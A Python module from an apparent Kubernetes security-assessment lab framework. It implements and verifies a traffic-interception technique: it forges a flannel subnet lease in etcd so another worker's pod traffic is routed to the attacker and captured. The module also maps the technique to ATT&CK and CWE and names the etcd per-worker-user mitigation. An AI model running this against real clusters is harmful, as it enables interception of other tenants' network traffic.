"""Draw another worker's packets to oneself with a false lease of flannel.

flannel keeps in etcd which worker has which network: one key for each, the lease. Every flanneld
believes every lease, and adds a route, a neighbour and a forwarding entry for it. The attacker
writes a lease that names their own machine for a network, and the other workers send what is for
that network to them, wrapped in VXLAN. The network of the attack is one of those for
documentation, so nothing of the cluster is cut off. Users in etcd of which each may write only the
lease of its own worker stop it.
"""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import TYPE_CHECKING

from labkit.cluster import Credential
from labkit.errors import ProbeError, ProbeTimeout
from labkit.lab.traces import Trace, leaving
from labkit.model import Channel, Foothold, Model, read_model
from labkit.model.credentials import client_credential
from labkit.model.etcd_rights import KeyRange
from labkit.techniques._lib.machines.reach import (
    Answer,
    address_in_lab,
    execution_place,
    run,
)
from labkit.techniques._lib.machines.waiting import wait_for
from labkit.techniques._lib.stores.etcd import (
    NO_USER,
    as_client,
    ask,
    encode,
    may,
    may_as_client,
)
from labkit.techniques._lib.technique import (
    COPIED_CREDENTIAL,
    NETWORK,
    ROOT_ON_WORKER,
    Prediction,
    Technique,
    all_of,
    holds,
)
from labkit.techniques._lib.verdict import Verdict
from labkit.techniques._lib.wire.capture import LEAVES, capture
from labkit.techniques._lib.wire.eavesdropping import DRAIN_S, nonce

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

WORKER, OTHER = "worker1", "worker2"
CHANNEL = f"flanneld@{WORKER} -> etcd@*"
#: A network for documentation (RFC 5737), in which nobody is, and an address there.
SUBNET, WITHIN = "198.51.100.0/24", "198.51.100.53"
PREFIX = "/coreos.com/network"
KEY, OWN = f"{PREFIX}/subnets/{SUBNET.replace('/', '-')}", f"{PREFIX}/config"
#: The hardware address that the false lease names; a locally administered one.
MAC = "0e:00:c6:33:64:00"
VXLAN_PORT = 8472
#: Seconds for flanneld to believe a lease, on an idle machine.
PATIENCE = 20.0
DENIED = "permission denied"
POD = ("payments", "card-processor")


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether etcd lets the attacker write the lease of another worker."""
    channel, key = model.open_channels(CHANNEL)[0], KeyRange.one(KEY)
    if foothold != NETWORK:
        return may_as_client(model, channel, "write", key)
    anybody = holds(channel.client_authentication, "none")
    return all_of(anybody, may(model, channel, None, "write", key))


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Write the lease, let a pod of another worker send into the network, and capture it.

    Raises
    ------
    ProbeTimeout
        flanneld did not believe the lease, or the packet did not arrive.
    ProbeError
        etcd gave no known refusal, or the positive control failed.
    """
    model = read_model(lab.environment)
    channel = model.open_channels(CHANNEL)[0]
    credential = client_credential(model, channel) if foothold != NETWORK else None
    how = "with flanneld's certificate" if credential else "without a credential"
    here = execution_place(lab, foothold)[0]
    with (
        _store(lab, foothold, channel, credential) as (put, get),
        leaving(lab, Trace("lease", KEY)),
    ):
        answer = put(KEY, _lease(address_in_lab(lab, here)))
        if not answer.refusal:
            return _drawn(lab, foothold, how, here)
        control = _control(lab) if foothold == NETWORK else _own(get)
    tried = (f"tried to write to etcd, {how}: {KEY}",)
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, answer.refusal, tried, control)


def _lease(address: str) -> bytes:
    """Return a lease as flanneld writes it."""
    backend = {"VNI": 1, "VtepMAC": MAC}
    lease = {"PublicIP": address, "PublicIPv6": None, "BackendType": "vxlan"}
    return json.dumps({**lease, "BackendData": backend}).encode()


def _drawn(lab: Lab, foothold: Foothold, how: str, here: str) -> Verdict:
    """Let a pod of another worker send a packet into the network, and find it at the attacker."""
    route = ["ip", "route", "show", SUBNET]
    missing = f"{OTHER} has no route to {SUBNET}"
    wait_for(lab, lambda: run(lab, OTHER, route).text.strip(), PATIENCE, missing)
    said = nonce("question")
    lookup = ["timeout", "2", "nslookup", said.value.decode(), WITHIN]
    source = address_in_lab(lab, OTHER)
    with capture(lab, foothold, [], f"udp port {VXLAN_PORT} and src host {source}") as stop:
        namespace, pod = POD
        lab.kubectl("exec", f"--namespace={namespace}", pod, "--", *lookup, check=False)
        time.sleep(DRAIN_S * lab.stretch())
        pcap = stop()
    if not said.found_in(pcap):
        raise ProbeTimeout(f"{lab.mode}: what the pod sent did not arrive on {here}")
    evidence = (
        f"wrote to etcd, {how}: {KEY}",
        f"flanneld on {OTHER} added a route to {SUBNET}, by the attacker's machine",
        f"captured there: the name that the pod {'/'.join(POD)} on {OTHER} asked {WITHIN} for",
    )
    reason = "etcd takes the lease, and flanneld believes every lease"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, evidence)


def _own(get: Callable[[str], bytes]) -> str:
    if not get(OWN).strip():
        raise ProbeError(f"positive control: flannel cannot read its own key {OWN}")
    return f"the same gives {OWN}, which is flannel's own"


def _control(lab: Lab) -> str:
    """Let the real flanneld show that its leases are served."""
    found = lab.etcdctl("get", f"{PREFIX}/subnets/", "--prefix", "--keys-only").text.split()
    if not found:
        raise ProbeError("positive control: etcd holds no lease of flanneld")
    return "etcd holds the leases that flanneld wrote"


@contextmanager
def _store(
    lab: Lab, foothold: Foothold, channel: Channel, credential: Credential | None
) -> Iterator[tuple[Callable[[str, bytes], Answer], Callable[[str], bytes]]]:
    """Yield functions that write and read a key of etcd, as the attacker can."""
    if foothold == NETWORK:

        def put_as_anybody(key: str, value: bytes) -> Answer:
            answer = ask(lab, "put", key, foothold, value=encode(value))
            if NO_USER.encode() in answer.body:
                return Answer(answer.status, b"", f"etcd: {NO_USER}")
            return answer

        yield put_as_anybody, lambda _: b""
        return
    with as_client(lab, foothold, channel, credential) as call:

        def put(key: str, value: bytes) -> Answer:
            output = call("put", key, stdin=value)
            if output.exit_code and DENIED not in output.error:
                raise ProbeError("etcd gave no known refusal", evidence=[output.error[-200:]])
            return Answer(0, b"", f"etcd: {DENIED}" if output.exit_code else "")

        yield put, lambda key: call("get", "--print-value-only", key).stdout


TECHNIQUE = Technique(
    name="flannel-lease",
    title="Draw another worker's packets to oneself with a false lease of flannel",
    footholds=(ROOT_ON_WORKER, COPIED_CREDENTIAL, NETWORK),
    grants=(),
    about="flanneld@* -> etcd@*",
    properties=("client_authentication", "authorization"),
    attack=("T1557", "T1565.001", "T1552.004"),
    stride=("tampering", "information disclosure"),
    cwe=("CWE-269", "CWE-345"),
    sources=(
        "Securing communications in Kubernetes (2016), etcd",
        "https://github.com/flannel-io/flannel/blob/master/Documentation/reservations.md",
        "https://etcd.io/docs/latest/op-guide/authentication/rbac/",
        "https://attack.mitre.org/techniques/T1557/",
    ),
    predict=predict,
    execute=execute,
    cost=2.0,
    leaves=("file", "lease", *LEAVES),
    machines=(OTHER,),
)
